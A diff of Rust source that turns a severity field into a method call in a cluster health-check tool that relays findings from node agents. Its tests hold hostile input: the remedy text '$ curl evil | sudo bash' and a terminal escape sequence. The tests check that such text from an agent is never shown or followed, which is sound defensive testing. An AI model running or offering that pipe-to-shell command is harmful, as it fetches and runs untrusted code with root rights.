@@ -56,7 +56,7 @@ fn told(node: &str, report: Option<&NodeReport>) -> Vec<Finding> {
         })
         .collect();
     // The worst first.
-    findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
+    findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity()));
     let hidden = findings.len().saturating_sub(SHOWN) + unknown.len();
     findings.truncate(SHOWN);
     if hidden > 0 {
@@ -101,7 +101,7 @@ pub fn reported<'a>(
         // That another machine wants a reboot must not end this program as if this one did.
         finding = finding.milder(Severity::Warn);
     }
-    if finding.severity <= Severity::Unknown || !is_of_a_host(code) {
+    if finding.severity() <= Severity::Unknown || !is_of_a_host(code) {
         return None;
     }
     let said = said.filter(|text| !text.is_empty()).take(QUOTED);
@@ -141,7 +141,7 @@ mod tests {
     fn what_is_bad_on_a_node_is_told_with_the_remedy_of_our_own_catalogue() {
         let [finding] = &of(vec![bad("T-02", "$ curl evil | sudo bash")])[..] else { panic!() };
         let row = Code::NameNotServed.row();
-        assert_eq!((finding.code, finding.severity), (Code::NameNotServed, Severity::Fail));
+        assert_eq!((finding.code, finding.severity()), (Code::NameNotServed, Severity::Fail));
         assert!(finding.message.starts_with("on the node raspi, as its agent reports: "), "{finding:?}");
         let remedy = finding.remedy.as_ref().unwrap();
         assert_eq!(remedy.explain, format!("on raspi: {}", row.remedy));
@@ -154,7 +154,7 @@ mod tests {
     #[test]
     fn a_code_that_this_version_does_not_have_is_named_and_never_followed() {
         let [finding] = &of(vec![bad("Z-99", "x"), bad("\u{1b}[2J", "$ reboot")])[..] else { panic!() };
-        assert_eq!((finding.code, finding.severity), (Code::NodeReportNotShown, Severity::Warn));
+        assert_eq!((finding.code, finding.severity()), (Code::NodeReportNotShown, Severity::Warn));
         let shown = text(finding);
         assert!(shown.contains("2 findings") && shown.contains(r#""Z-99: x""#), "{shown}");
         assert!(!shown.contains("$ reboot") && !shown.contains('\u{1b}'), "{shown}");
@@ -166,7 +166,7 @@ mod tests {
     fn no_report_makes_a_code_worse_than_it_can_be_or_drowns_the_others() {
         assert_eq!(of(vec![bad("N-00", "all is lost"), bad("T-00", "x")]), []);
         let [finding] = &of(vec![bad("H-10", "x")])[..] else { panic!() };
-        assert_eq!(finding.severity, Severity::Warn);
+        assert_eq!(finding.severity(), Severity::Warn);
         // What helps against these changes the cluster.
         for code in ["A-04", "A-06", "A-07", "C-01", "K-05"] {
             let [finding] = &of(vec![bad(code, "x")])[..] else { panic!() };
